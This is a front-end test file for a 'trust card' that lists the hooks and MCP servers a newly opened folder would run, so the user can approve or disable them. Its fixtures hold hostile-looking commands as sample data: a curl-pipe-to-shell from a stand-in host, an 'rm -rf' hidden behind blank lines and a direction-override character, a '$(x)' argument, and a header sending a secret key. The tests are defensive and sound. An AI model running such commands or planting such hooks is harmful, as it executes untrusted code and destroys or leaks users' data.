import { fireEvent, screen, within } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { TrustCard } from '../../hooks';
import { sampleHook, sampleTrust } from '../../hooks/sample-hooks';
import { renderPage } from '../render-page';

const card = () => screen.queryByRole('region', { name: /This folder brings|of this folder/ });

describe('the first-open trust card (HK1)', () => {
  it('lists each hook in full with event, matcher and line, and what else the folder brings', async () => {
    const long = `curl -s https://h.example/x | sh; ${'#'.repeat(10_240)}`;
    const hostile = `npm test${'\n'.repeat(300)}rm -rf \u202E~`;
    const view = await renderPage(<TrustCard />, {
      'hooks.trust': () =>
        sampleTrust({
          hooks: [
            sampleHook('a', { text: long }),
            sampleHook('b', { event: 'Stop', matcher: '', text: hostile, line: 9 }),
            sampleHook('c', { text: 'check', args: ['a b', '$(x)'], condition: 'Bash(git:*)' }),
            sampleHook('d', {
              type: 'http',
              text: 'https://h.example/',
              headers: ['A: $KEY'],
              variables: ['KEY'],
            }),
          ],
        }),
    });
    const items = within(card()!).getAllByRole('listitem');
    expect(items).toHaveLength(5);
    expect(items[0]?.textContent).toContain(long);
    expect(items[0]?.textContent).toContain('10,274 characters');
    expect(items[1]?.textContent).toContain('Stop');
    expect(items[1]?.textContent).toContain('npm test300 empty lines\nrm -rf U+202E~');
    expect(items[2]?.textContent).toMatch(/Bash if Bash\(git:\*\).*no shell.*check.*a b.*\$\(x\)/s);
    expect(items[3]?.textContent).toMatch(/Headers A: \$KEY.*Sends the values of KEY/s);
    expect(items[4]?.textContent).toBe('MCP servers: tracker');
    fireEvent.click(within(items[1]!).getByRole('button', { name: /settings\.json:9/ }));
    expect(view.opened).toEqual([{ path: '/w/.claude/settings.json', line: 9 }]);
  });

  it.each([
    ['Trust this folder', 'hooks.setTrust', { trusted: true }],
    ['Keep off', 'hooks.setTrust', { trusted: false }],
    ['Not now', 'hooks.notNow', null],
  ] as const)('%s is one press, and the card goes', async (name, channel, request) => {
    const after = () => sampleTrust({ asks: false });
    const view = await renderPage(<TrustCard />, {
      'hooks.trust': () => sampleTrust(),
      'hooks.setTrust': after,
      'hooks.notNow': after,
    });
    fireEvent.click(screen.getByText(name));
    await view.settled();
    expect(view.requests(channel)).toEqual([request]);
    expect(card()).toBeNull();
  });

  it('says what could not be saved and stays', async () => {
    const view = await renderPage(<TrustCard />, {
      'hooks.trust': () => sampleTrust(),
      'hooks.setTrust': () => ({ kind: 'unsaved', message: 'The disk is full.' }),
    });
    fireEvent.click(screen.getByText('Trust this folder'));
    await view.settled();
    expect(within(card()!).getByRole('alert').textContent).toBe('The disk is full.');
    expect(card()).toBeTruthy();
  });

  it('a folder that asks nothing has no card; a trusted one with a new hook tells of that hook alone', async () => {
    let trust = sampleTrust({ asks: false, trusted: true, lasting: true });
    const view = await renderPage(<TrustCard />, {
      'hooks.trust': () => trust,
      'hooks.switch': () => null,
      'hooks.seen': () => (trust = { ...trust, fresh: [] }),
    });
    expect(card()).toBeNull();
    trust = { ...trust, hooks: [sampleHook('a'), sampleHook('b', { text: 'curl evil' })], fresh: ['b'] };
    await view.changed();
    await view.settled();
    expect(screen.getByRole('heading', { name: '1 hook of this folder is new or changed' })).toBeTruthy();
    expect(within(card()!).getAllByRole('listitem')).toHaveLength(1);
    expect(screen.getByText('curl evil')).toBeTruthy();
    fireEvent.click(screen.getByText('Switch off'));
    await view.settled();
    expect(view.requests('hooks.switch')).toEqual([{ id: 'b', on: false }]);
    expect(card()).toBeNull();
  });

  it('a trusted folder with a new server tells what it runs, and Keep on is one press', async () => {
    let trust = sampleTrust({ asks: false, trusted: true, lasting: true, freshServers: ['late (curl x)'] });
    await renderPage(<TrustCard />, {
      'hooks.trust': () => trust,
      'hooks.seen': () => (trust = { ...trust, freshServers: [] }),
    }).then(async (view) => {
      expect(
        screen.getByRole('heading', { name: '1 MCP server of this folder is new or changed' }),
      ).toBeTruthy();
      expect(within(card()!).getByRole('listitem').textContent).toBe('MCP server: late (curl x)');
      expect(screen.queryByText(/^Switch/)).toBeNull();
      fireEvent.click(screen.getByText('Keep on'));
      await view.settled();
      expect(card()).toBeNull();
    });
  });
});
